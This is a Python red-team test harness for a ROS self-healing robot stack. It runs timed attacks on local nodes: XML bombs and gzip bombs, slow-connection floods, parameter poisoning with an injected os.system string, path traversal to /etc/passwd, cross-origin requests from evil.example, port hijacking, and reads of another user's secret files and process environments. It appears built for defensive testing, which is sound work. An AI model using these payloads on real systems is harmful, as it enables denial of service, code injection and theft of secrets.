"""What a stranger tries against a robot: `redteam_attacks.py ATTACK SECONDS FOLDER PID`.

PID: an innocent process of the robot's user. Code that was run would write FOLDER/ran. Prints how
often it was tried.
"""
import gzip
import http.client
import itertools
import os
import random
import signal
import socket
import struct
import subprocess
import sys
import threading
import time
import xmlrpc.client
from contextlib import suppress
from pathlib import Path
from typing import Any, Callable, Dict, List, Tuple
from xmlrpc.server import SimpleXMLRPCServer

import psutil
import rosgraph

HEALERS = "/monitor", "/reconfigurator"
FLOOD_THREADS = 8
LENGTH = struct.Struct("<I")
ERRORS = (OSError, xmlrpc.client.Error, http.client.HTTPException, rosgraph.MasterException)


class Target:
    """The robot, as anybody on its computer sees it."""

    def __init__(self, folder: str, innocent: int) -> None:
        self.folder, self.innocent = folder, innocent
        self.master = rosgraph.Master("/stranger")
        self.uris = {each: str(self.master.lookupNode(each)) for each in HEALERS}
        self.code = f"__import__('os').system('touch {folder}/ran')"

    def address(self, node: str) -> Tuple[str, int]:
        """Return where a healer's API listens."""
        return "127.0.0.1", int(self.uris[node].rstrip("/").rsplit(":", 1)[1])

    def data(self, node: str) -> Tuple[str, int]:
        """Return where a healer's topics are to be had."""
        api: Any = xmlrpc.client.ServerProxy(self.uris[node])
        topic = "/shsa/health" if node == "/monitor" else "/shsa/substitutions"
        return "127.0.0.1", int(api.requestTopic("/stranger", topic, [["TCPROS"]])[2][2])


Try = Callable[[], object]


def flood(tries: Callable[[str], Try], end: float, target: Target) -> int:
    """Try as fast as can be, in threads, each against one healer."""
    counts = [0] * FLOOD_THREADS

    def work(number: int) -> None:
        attempt = tries(HEALERS[number % 2])
        while time.monotonic() < end:
            with suppress(*ERRORS):
                attempt()
            counts[number] += 1

    threads = [threading.Thread(target=work, args=(k,), daemon=True) for k in range(FLOOD_THREADS)]
    for each in threads:
        each.start()
    for each in threads:
        each.join(max(0.0, end - time.monotonic()) + 1.0)
    return sum(counts)


def post(at: Tuple[str, int], body: bytes, *headers: str, length: int = -1) -> bytes:
    """Send a call as it is; return the first of the answer."""
    with socket.create_connection(at, 2.0) as connection:
        size = len(body) if length < 0 else length
        lines = ["POST /RPC2 HTTP/1.1", f"Content-Length: {size}", *headers, "", ""]
        connection.sendall("\r\n".join(lines).encode() + body)
        return connection.recv(1000)


def announced(target: Target, end: float) -> int:
    """Announce 32 MB each, and send them slowly."""
    return _held(target.address, end, b"POST /RPC2 HTTP/1.1\r\nContent-Length: 32000000\r\n\r\n")


def slow(target: Target, end: float) -> int:
    """Begin bodies and headers that never end, 300 at a time."""
    begun = b"POST /RPC2 HTTP/1.1\r\nContent-Length: 60000\r\n\r\n<?xml"
    half = (end + time.monotonic()) / 2.0
    return _held(target.address, half, begun) + _held(target.data, end, LENGTH.pack(200_000) + b"a")


def _held(at: Callable[[str], Tuple[str, int]], end: float, begin: bytes) -> int:
    places = itertools.cycle([at(each) for each in HEALERS])
    count, opened = 0, []
    while time.monotonic() < end:
        with suppress(OSError):
            opened.append(socket.create_connection(next(places), 1.0))
            opened[-1].sendall(begin + bytes(10_000))
            count += 1
        if len(opened) > 300:
            opened.pop(0).close()
        time.sleep(0.002)
    return count


def calls(target: Target, end: float) -> int:
    """Make calls of 60 kB that cost much to be read, on connections that stay."""
    body = xmlrpc.client.dumps((["a", [1] * 2200],), "getPid").encode()
    return flood(lambda node: _caller(target.address(node), body), end, target)


def _caller(at: Tuple[str, int], body: bytes) -> Try:
    connection = http.client.HTTPConnection(*at, timeout=5.0)

    def attempt() -> None:
        try:
            connection.request("POST", "/RPC2", body)
            connection.getresponse().read()
        except ERRORS:
            connection.close()
            raise

    return attempt


def bombs(target: Target, end: float) -> int:
    """Send what grows when it is read: gzip, entities, heads of 6 MB."""
    packed = gzip.compress(xmlrpc.client.dumps(("x" * 19_000_000,), "getPid").encode())
    entities = "".join(f'<!ENTITY e{k} "{f"&e{k - 1};" * 10}">' for k in range(1, 9))
    lol = f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e0 "lol">{entities}]><methodCall>&e8;'
    head = [f"X-{k}: {'x' * 60_000}" for k in range(99)]

    def attempts(node: str) -> Try:
        at = target.address(node)
        turns = itertools.cycle(
            [
                lambda: post(at, packed, "Content-Encoding: gzip"),
                lambda: post(at, lol.encode()),
                lambda: post(at, b"", *head),
            ]
        )
        return lambda: next(turns)()

    return flood(attempts, end, target)


def connections(target: Target, end: float) -> int:
    """Connect and leave, as often as can be, to what calls and to what gives topics."""

    def attempts(node: str) -> Try:
        turns = itertools.cycle([target.address(node), target.data(node)])
        return lambda: socket.create_connection(next(turns), 1.0).close()

    return flood(attempts, end, target)


def subscribers(target: Target, end: float) -> int:
    """Subscribe 1,000 times to what healing publishes, and never read."""
    from shsa_msgs.msg import Health, Substitutions

    said = {
        "/monitor": ("/shsa/health", Health),
        "/reconfigurator": ("/shsa/substitutions", Substitutions),
    }
    opened: List[socket.socket] = []
    count = 0

    while time.monotonic() < end:
        for node in HEALERS:
            topic, kind = said[node]
            fields = {"topic": topic, "type": kind._type}
            fields.update(callerid=f"/s{count}", md5sum=kind._md5sum)
            with suppress(*ERRORS):
                opened.append(socket.create_connection(target.data(node), 1.0))
                opened[-1].sendall(_header(fields))
            count += 1
        while len(opened) > 1000:
            opened.pop(0).close()
        time.sleep(0.005)
    return count


def families(target: Target, end: float) -> int:
    """Answer in IPv6 where processes of the robot do in IPv4: with their numbers, as publishers."""
    from shsa_msgs.msg import Float64Stamped
    from shsa_testing.raw_publisher import RawPublisher

    victims = [_port_of(target.innocent), *(target.address(each)[1] for each in HEALERS)]
    count = 0
    publishers = []
    for number, port in enumerate(filter(None, victims)):
        name = f"/evil_{number}"
        bad = RawPublisher("/warm", name, Float64Stamped(data=10.0))
        api = _SixServer(("::1", port), logRequests=False, allow_none=True)
        pid: Callable[..., Any] = lambda caller: [1, "", target.innocent]
        api.register_function(pid, "getPid")
        request: Callable[..., Any] = bad._request_topic
        api.register_function(request, "requestTopic")
        topics: Callable[..., Any] = lambda caller: [1, "", [["/warm", Float64Stamped._type]]]
        api.register_function(topics, "getPublications")
        threading.Thread(target=api.serve_forever, daemon=True).start()
        bad.uri = f"http://localhost:{port}/"
        publishers.append((name, bad))
    value = itertools.cycle([10.0, 1e6])
    while time.monotonic() < end:
        for name, bad in publishers:
            frame = Float64Stamped(data=next(value))
            with suppress(*ERRORS):
                bad.register(name)
                bad.tell("/monitor")
            bad._frame = _framed(frame)
            count += 1
        time.sleep(0.5)
    return count


class _SixServer(SimpleXMLRPCServer):
    address_family = socket.AF_INET6


def _port_of(pid: int) -> int:
    """Return the port at which a process of another listens: by its words, or by looking."""
    for row in Path("/proc/net/tcp").read_text().splitlines()[1:]:
        _, here, _, state, *_ = row.split()
        uid = int(row.split()[7])
        if state == "0A" and uid == 4001:
            with suppress(*ERRORS):
                port = int(here.split(":")[1], 16)
                probe = http.client.HTTPConnection("127.0.0.1", port, timeout=0.5)
                probe.request("GET", "/")
                if "SimpleHTTP" in (probe.getresponse().getheader("Server") or ""):
                    return port
    return 0


def _header(fields: Dict[str, str]) -> bytes:
    lines = [f"{key}={value}".encode() for key, value in fields.items()]
    header = b"".join(LENGTH.pack(len(line)) + line for line in lines)
    return LENGTH.pack(len(header)) + header


def _framed(message: Any) -> bytes:
    import io

    buffer = io.BytesIO()
    message.serialize(buffer)
    return LENGTH.pack(buffer.tell()) + buffer.getvalue()


def parameters(target: Target, end: float) -> int:
    """Set what switches healing off, what drifts, what names programs; and where launches are."""
    service = "/shsa/som/services/warm"
    values: Dict[str, Any] = {
        f"{service}/needed": False,
        f"{service}/deadline": 1_000_000.0,
        f"{service}/period": 1000.0,
        f"{service}/node": "/reconfigurator",
        f"{service}/policy": "restart",
        f"{service}/contain": "node",
        f"{service}/provides/by_warm/range": [9.9, 9.95],
        f"{service}/provides/by_warm/field": target.code,
        "/shsa/som/services/evil": {"topic": "/x", "node": target.code, "type": target.code},
        "/roslaunch/uris": {f"x{k}": f"http://127.0.0.1:{9 + k}/" for k in range(100)},
        "/use_sim_time": True,
        "/reconfigurator": {"method": target.code, "pool": 10**9},
    }
    count = 0
    while time.monotonic() < end:
        for name, value in values.items():
            with suppress(*ERRORS):
                target.master.setParam(name, value)
            count += 1
        time.sleep(0.02)
    for name in ("/use_sim_time", "/roslaunch/uris"):
        with suppress(*ERRORS):
            target.master.deleteParam(name)
    return count


def names(target: Target, end: float) -> int:
    """Register nodes, topics and types whose names are code, escapes, paths, or very long."""
    bad = ("\x1b[2J", "../../etc", "a" * 5000, target.code, "<script>", "\u202e", "%s%n", "/", "")
    count = 0
    while time.monotonic() < end:
        for word in bad:
            caller = rosgraph.Master(f"/{word}")
            uri = random.choice([f"http://{word}:1/", "http://127.0.0.1:9/", word])
            with suppress(*ERRORS):
                caller.registerPublisher("/warm", word or "*", uri)
                caller.registerSubscriber("/warm", "*", uri)
            with suppress(*ERRORS):
                caller.unregisterPublisher("/warm", uri)
                caller.unregisterSubscriber("/warm", uri)
            count += 1
        time.sleep(0.02)
    return count


def requests(target: Target, end: float) -> int:
    """Ask healers to shut down, to substitute, to release and reload; send services 1 GB."""
    count = 0
    services = ("/shsa/find_substitute", "/shsa/release", "/shsa/reload")
    while time.monotonic() < end:
        for uri in target.uris.values():
            api: Any = xmlrpc.client.ServerProxy(uri)
            with suppress(*ERRORS):
                api.shutdown("/stranger", "says a stranger")
            with suppress(*ERRORS):
                api.publisherUpdate("/master", "/warm", ["http://127.0.0.1:9/"])
            with suppress(*ERRORS):
                api.paramUpdate("/master", "/shsa/som/services/warm/needed", False)
            count += 3
        for name in services:
            with suppress(*ERRORS):
                host, port = target.master.lookupService(name)[9:].strip("/").split(":")
                with socket.create_connection((host, int(port)), 1.0) as connection:
                    fields = {"service": name, "md5sum": "*", "callerid": "/stranger"}
                    connection.sendall(_header({**fields, "persistent": "1"}))
                    connection.settimeout(0.2)
                    with suppress(OSError):
                        connection.recv(10_000)
                        connection.sendall(LENGTH.pack(1 << 30) + bytes(1 << 22))
            count += 1
        time.sleep(0.02)
    return count


def files(target: Target, end: float) -> int:
    """Read and write what is the robot's: the secret, sockets of heartbeats, logs, memory."""
    count = 0
    while time.monotonic() < end:
        homes = [Path(f"/proc/{target.innocent}/cwd"), *Path("/tmp").glob("shsa_redteam_*")]
        for home in homes:
            for path in ("shsa/secret", "shsa", "log", "shsa_incidents.jsonl"):
                with suppress(OSError):
                    if home != Path(target.folder):
                        data = (home / path).read_bytes()
                        if path.endswith("secret") and data:
                            Path(target.folder, "ran").touch()
                with suppress(OSError):
                    if home != Path(target.folder):
                        os.symlink(f"{target.folder}/log", str(home / path))
                count += 2
        for process in psutil.process_iter():
            with suppress(OSError, psutil.Error):
                if process.uids().real == 4001:
                    count += 1
                    process.environ()
                    Path(target.folder, "ran").touch()  # nobody else's is to be had
        time.sleep(0.1)
    return count


def services(target: Target, end: float) -> int:
    """Ask what would be done if a topic failed, on connections that stay."""
    from shsa_msgs.srv import FindSubstitute

    name = "/shsa/find_substitute"
    host, port = target.master.lookupService(name)[9:].strip("/").split(":")
    fields = {"service": name, "md5sum": FindSubstitute._md5sum, "callerid": "/stranger"}
    header = _header({**fields, "persistent": "1"})
    asked = _framed(FindSubstitute._request_class(topic="/warm", method="all"))

    def attempts(_: str) -> Try:
        opened: List[socket.socket] = []

        def attempt() -> None:
            try:
                if not opened:
                    opened.append(socket.create_connection((host, int(port)), 5.0))
                    opened[0].sendall(header)
                    opened[0].recv(10_000)
                opened[0].sendall(asked)
                if not opened[0].recv(100_000):
                    raise ConnectionResetError
            except OSError:
                opened.clear()
                raise

        return attempt

    return flood(attempts, end, target)


def recordings(target: Target, end: float) -> int:
    """Record every topic, and keep every parameter: the secret may be in one of them."""
    words = ["rosbag", "record", "-a", "-O", f"{target.folder}/all.bag", "__name:=recording"]
    process = subprocess.Popen(words, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    count = 0
    while time.monotonic() < end - 2.0:
        Path(target.folder, "parameters").write_text(str(target.master.getParam("/")), "utf-8")
        count += 1
        time.sleep(0.1)
    process.send_signal(signal.SIGINT)
    process.wait()
    return count + int(any(Path(target.folder).glob("all.bag*")))


def restarts(target: Target, end: float) -> int:
    """Be the node that is started again: by its name, with our words, and its parameters ours."""
    from shsa_msgs.msg import Float64Stamped
    from shsa_testing.raw_publisher import RawPublisher

    count = 0
    while time.monotonic() < end:
        bad = RawPublisher("/again", "/again_node", Float64Stamped(data=10.0))
        pid: Callable[..., Any] = lambda caller: [1, "", (os.getpid(), target.innocent)[count % 2]]
        bad._api.register_function(pid, "getPid")
        topics: Callable[..., Any] = lambda caller: [1, "", [["/again", Float64Stamped._type]]]
        bad._api.register_function(topics, "getPublications")
        with suppress(*ERRORS):
            bad.register("/again_node")
            bad.tell("/monitor")
        for name in ("value", "topic", "command", "launch-prefix"):
            with suppress(*ERRORS):
                target.master.setParam(f"/again_node/{name}", target.code)
        time.sleep(3.0)
        bad._frame = _framed(Float64Stamped(data=1e6))
        time.sleep(1.0)
        bad.close()
        count += 1
    return count


def view(target: Target, end: float) -> int:
    """Ask the view as a page of another site does: by other names, with forms, and no token."""
    at = "127.0.0.1", int(os.environ["VIEW_PORT"])
    evil = {"Origin": "http://evil.example", "Referer": "http://evil.example/"}
    form = {"Content-Type": "application/x-www-form-urlencoded"}
    code = "<script>alert(1)</script>"
    tries: List[Tuple[str, str, Dict[str, str], str]] = [
        ("GET", "/api/state", {"Host": "evil.example"}, ""),
        ("GET", "/", {"Host": "evil.example:80"}, ""),
        ("POST", "/api/actions/release", {**evil, **form}, "topic=/warm"),
        ("POST", "/api/actions/substitute", {**evil, "Authorization": "Bearer x"}, "{}"),
        ("POST", "/api/actions/inject", {**evil, "Content-Type": "text/plain"}, "{}"),
        ("GET", f"/api/what_if?node=/{code}", evil, ""),
        ("GET", "/static/../../../../etc/passwd", {}, ""),
        ("GET", "/static/%2e%2e/%2e%2e/handlers.py", {}, ""),
    ]
    count = 0
    while time.monotonic() < end:
        for method, path, headers, body in tries:
            connection = http.client.HTTPConnection(*at, timeout=2.0)
            with suppress(*ERRORS):
                connection.request(method, path.replace(" ", "%20"), body, headers)
                answer = connection.getresponse()
                text = answer.read().decode("utf-8", "replace")
                told = answer.getheader("Content-Type", "")
                if answer.status == 200 or (code in text and "json" not in told):
                    Path(target.folder, "ran").touch()
                count += 1
            connection.close()
        time.sleep(0.02)
    return count


def messages(target: Target, end: float) -> int:
    """Say what healing alone may say: forged, wrongly signed, repeated, and much of it."""
    stranger = Path(__file__).resolve().parents[2] / "shsa_core/test/rostest/stranger"
    began = time.monotonic()
    process = subprocess.Popen([sys.executable, str(stranger), "/idle"], stdout=subprocess.DEVNULL)
    time.sleep(max(0.0, end - time.monotonic()))
    process.kill()
    process.wait()
    return int((time.monotonic() - began) / 0.05) * 14


ATTACKS: Dict[str, Callable[[Target, float], int]] = {
    each.__name__: each
    for each in (
        *(calls, families, announced, slow, bombs, connections, subscribers, messages),
        *(parameters, names, requests, files, services, recordings, restarts, view),
    )
}


def main(arguments: List[str]) -> None:
    """Attack."""
    name, seconds, folder, innocent = arguments
    target = Target(folder, int(innocent))
    print(ATTACKS[name](target, time.monotonic() + float(seconds)), flush=True)
    os._exit(0)


if __name__ == "__main__":
    main(sys.argv[1:])
